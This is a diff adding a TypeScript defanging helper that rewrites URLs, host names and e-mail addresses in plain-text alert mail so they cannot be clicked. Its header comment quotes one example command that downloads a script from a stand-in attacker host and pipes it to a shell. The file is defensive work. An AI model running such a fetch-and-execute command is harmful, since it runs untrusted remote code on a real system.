@@ -1,0 +1,26 @@
+/**
+ * Defanging for plain-text e-mail. Mail clients turn anything that looks like a link into one, so a URL in model
+ * output or a log line (`curl https://evil.example/x.sh | sh`) would arrive clickable in the on-call inbox.
+ * Defanged text stays readable for a human and cannot be clicked: `hxxps://evil[.]example/x.sh`.
+ */
+
+/** Top-level domains clients autolink without a scheme (`evil.com/x`); file names such as `package.json` or `deploy.sh` stay. */
+const BARE_HOST = /(?<![/\w.@[-])((?:[a-z0-9-]+\.)+(?:com|net|org|io|dev|app|xyz|ru|cn|info|biz|co|me|ly|gg|site|online|top|link|click|example))(?=[/:?#]|\b)/gi;
+
+/** Replaces the dots of a host name so it is no longer a link. */
+function defangHost(host: string): string {
+  return host.replace(/\./g, '[.]');
+}
+
+/** Makes every URL, host name and e-mail address in `text` unclickable while keeping it readable. */
+export function defang(text: string): string {
+  return text
+    .replace(/\b([a-z][a-z0-9+.-]{1,20}):\/\/([^\s/?#]*)/gi, (_, scheme: string, authority: string) => {
+      const fanged = scheme.toLowerCase().replace(/^http/, 'hxxp').replace(/^ftp/, 'fxp').replace(/^ws/, 'wx');
+      const safeScheme = fanged === scheme.toLowerCase() ? `${scheme}[:]` : fanged;
+      return `${safeScheme}://${defangHost(authority)}`;
+    })
+    .replace(/\bwww\.[^\s/]+/gi, (host) => defangHost(host))
+    .replace(/\b([A-Za-z0-9._%+-]+)@((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,})\b/g, (_, user: string, host: string) => `${user}[@]${defangHost(host)}`)
+    .replace(BARE_HOST, (host) => (host.includes('[.]') ? host : defangHost(host)));
+}
